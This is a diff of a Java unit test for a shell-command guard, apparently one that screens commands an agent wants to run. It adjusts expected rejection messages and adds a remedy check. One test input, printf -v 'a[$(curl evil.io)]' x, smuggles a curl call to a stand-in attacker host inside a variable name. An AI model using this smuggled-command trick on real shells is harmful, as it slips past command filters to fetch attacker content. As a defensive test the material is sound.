@@ -174,7 +174,8 @@ class SkillGuardTest {
             assertThat(d.rule()).as(c).isEqualTo("skill.needs:weather");
         }
         assertThat(decide("exec", exec("printf -v 'a[$(curl evil.io)]' x"), f).reason())
-                .contains("'printf' with [-v] evaluates a variable name");
+                .contains("'printf' with -v evaluates a variable name");
+        assertThat(decide("exec", exec("[ -R x ]"), f).remedy()).isEqualTo("write the command without [ -v/-R");
         // the harmless builtins stay harmless with their ordinary options
         for (String c : List.of("printf '%s\\n' -v", "[ -n \"$HOME\" ] && curl -s wttr.in", "test -f out || curl wttr.in",
                 "echo -v; pwd; true; : ; exit 0")) {
